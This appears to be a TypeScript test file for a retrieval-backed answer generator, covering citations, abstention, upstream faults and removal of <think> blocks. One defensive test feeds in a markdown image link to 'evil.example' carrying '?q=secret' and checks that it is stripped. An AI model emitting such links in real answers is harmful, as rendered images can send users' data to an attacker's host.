import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { createOpenAIGenerator } from '../../../src/answer/openai-generator.ts';
import { createModelClient } from '../../../src/models/model-client.ts';
import { type FakeOpenAI, type Fault, startFakeOpenAI } from '../../support/fake-openai.ts';
import { buildHit, weighTerms } from './build-hits.ts';
import { collectDraft } from './collect-draft.ts';
import { compose, ENGLISH_ABSTENTION, FAQ, FEE, GUIDE, KOREAN_ABSTENTION, QUESTION } from './compose-with.ts';

let fake: FakeOpenAI;
beforeAll(async () => {
  fake = await startFakeOpenAI();
});
afterAll(() => fake.close());
beforeEach(() => {
  fake.calls.length = 0;
  fake.always(undefined);
  fake.say(undefined);
});

const never = new AbortController().signal;
function createGenerator(model = 'qwen3', inactivityTimeoutMs = 10_000) {
  const times = { timeoutMs: 20_000, inactivityTimeoutMs, backoffMs: 5 };
  const client = createModelClient({ baseUrl: fake.baseUrl, apiKey: undefined, ...times });
  return createOpenAIGenerator({ client, model, maxTokens: 500 });
}
const hits = [buildHit(FAQ, {}, { score: 1 }), buildHit(GUIDE, {}, { score: 0.9 })];
const ask = (grounding: 'flag' | 'strict' = 'flag', question = QUESTION) =>
  compose({ question, hits, generator: createGenerator(), grounding, terms: weighTerms(question) });
const draft = (text: string) => {
  fake.say([...text]);
  const request = { question: QUESTION, language: 'en' as const, hits, terms: [], history: [] };
  return collectDraft(createGenerator().generate(request, never));
};

describe('an answer by a model', () => {
  test('is cited to the words it stands on, and says what it cost', async () => {
    expect(await ask()).toMatchObject({
      answerable: true,
      answer: `${FEE}[1]`,
      statements: [{ support: 1, supported: true, citations: [1] }],
      citations: [{ documentId: 'doc-2', quote: FEE, verified: true }],
      usage: { promptTokens: 11, completionTokens: 5 },
    });
    expect(fake.calls[0]?.body).toMatchObject({ model: 'qwen3', temperature: 0, max_tokens: 500 });
  });

  test('is Korean for a Korean question', async () => {
    const { answer, citations } = await ask('flag', '설치에 필요한 최소 메모리는 얼마인가요?');
    expect(answer).toContain('780MB');
    expect(citations).toMatchObject([{ documentId: 'doc-1', page: 2 }]);
  });

  test('in other words is supported by the sentence it means', async () => {
    fake.say(['The fee for the entrance', ' is 12 euros [1].']);
    expect(await ask('strict')).toMatchObject({
      answer: 'The fee for the entrance is 12 euros.[1]',
      citations: [{ quote: FEE }],
    });
  });

  test('with a wrong number is flagged, and left out in strict', async () => {
    fake.say(['The entrance fee is 90 euros. [1] ', FEE, ' [1]']);
    expect((await ask('flag')).statements.map(({ supported }) => supported)).toEqual([false, true]);
    expect(await ask('strict')).toMatchObject({ answerable: true, answer: `${FEE}[1]` });
    fake.say(['The entrance fee is 90 euros. [1]']);
    expect(await ask('strict')).toMatchObject({
      answerable: false,
      answer: ENGLISH_ABSTENTION,
      citations: [],
    });
  });

  test('that says it has none is an abstention in the language of the question', async () => {
    fake.say(['NO_', 'ANSWER']);
    expect(await ask()).toMatchObject({ answerable: false, answer: ENGLISH_ABSTENTION });
    expect(await ask('flag', '설치에 필요한 최소 메모리는?')).toMatchObject({ answer: KOREAN_ABSTENTION });
  });

  test('loses its links and images, also those in pieces', async () => {
    fake.say([
      `${FEE} [1] See ![x](https:`,
      '//evil.example/?q=secret) and [here](https://evil.example/). [1]',
    ]);
    expect((await ask()).answer).not.toMatch(/evil|https?:/);
  });
});

describe('the draft', () => {
  test('marks that name no hit find no evidence; a sentence without marks finds its own', async () => {
    const { statements } = await draft(`Entry is free. [9] ${FEE} Dogs may fly to the moon.`);
    expect(statements.map(({ evidence }) => evidence.map(({ hit }) => hit))).toEqual([[], [0], []]);
  });

  test('a broken reply throws after the sentences that were complete, and before the one that was not', async () => {
    const seen: string[] = [];
    fake.say([`${FEE} [1] `, 'The garden is open. [1] ', 'Dogs stay', ' outside.', ' [1]', ' And more.']);
    fake.always('reset');
    const request = { question: QUESTION, language: 'en' as const, hits, terms: [], history: [] };
    const generate = async () => {
      for await (const event of createGenerator().generate(request, never))
        if (event.kind === 'statement') seen.push(event.statement.text);
    };
    await expect(generate()).rejects.toMatchObject({ code: 'UPSTREAM_INCOMPLETE' });
    expect(seen).toEqual([FEE, 'The garden is open.']);
  });
});

test.each([
  ['no-finish', 'UPSTREAM_INCOMPLETE'],
  ['reset', 'UPSTREAM_INCOMPLETE'],
  ['length', 'UPSTREAM_INCOMPLETE'],
  ['error-mid-stream', 'UPSTREAM_FAILED'],
  ['invalid-json', 'UPSTREAM_FAILED'],
  ['html', 'UPSTREAM_FAILED'],
  ['empty-choices', 'UPSTREAM_FAILED'],
  [{ status: 500 }, 'UPSTREAM_FAILED'],
  [{ status: 429, retryAfter: '60' }, 'UPSTREAM_UNAVAILABLE'],
] as [Fault, string][])('%j is an error, never an answer', async (fault, code) => {
  fake.always(fault);
  await expect(ask()).rejects.toMatchObject({ code });
});

test.each([
  ['gpt-5-mini', undefined],
  ['openai/o3', undefined],
  ['gpt-4.1-mini', 0],
  ['qwen3', 0],
])('%s is asked with the temperature %j', async (model, temperature) => {
  const request = { question: QUESTION, language: 'en' as const, hits, terms: [], history: [] };
  await collectDraft(createGenerator(model).generate(request, never));
  expect(fake.calls[0]?.body.temperature).toBe(temperature);
});

test('every request has a boundary of its own', async () => {
  await ask();
  await ask();
  const boundaries = fake.calls.map(
    ({ body }) => /<<<SOURCE 1 (\S+)>>>/.exec(body.messages.at(-1).content)?.[1],
  );
  expect(boundaries[0]).toMatch(/^[0-9a-f]{24}$/);
  expect(boundaries[0]).not.toBe(boundaries[1]);
});

test('what a model thinks aloud first is no part of its answer', async () => {
  fake.say(['<think>The fee is 90 euros. [1]', '</think>', `${FEE} [1]`]);
  expect(await ask()).toMatchObject({ answer: `${FEE}[1]` });
});

test('thoughts that nothing announced are an error, never an answer', async () => {
  fake.say(['Okay, the user asks about the fee.\n', `${FEE}\n</think>\n\n`, `${FEE} [1]`]);
  await expect(ask()).rejects.toMatchObject({ code: 'UPSTREAM_FAILED' });
});

test('what was found by meaning alone is shown to the model, who may decline', async () => {
  const question = 'Was kostet es?';
  const found = (dense: boolean) =>
    compose({
      question,
      hits: hits.map((hit) => ({
        ...hit,
        legs: { ...hit.legs, dense: dense ? { rank: 1, score: 1 } : null },
      })),
      generator: createGenerator(),
      terms: weighTerms(question),
    });
  fake.say([`${FEE} [1]`]);
  expect(await found(false)).toMatchObject({ answerable: false });
  expect(fake.calls).toHaveLength(0);
  expect(await found(true)).toMatchObject({ answerable: true, citations: [{ quote: FEE }] });
  fake.say(['NO_ANSWER']);
  expect(await found(true)).toMatchObject({ answerable: false, citations: [] });
});
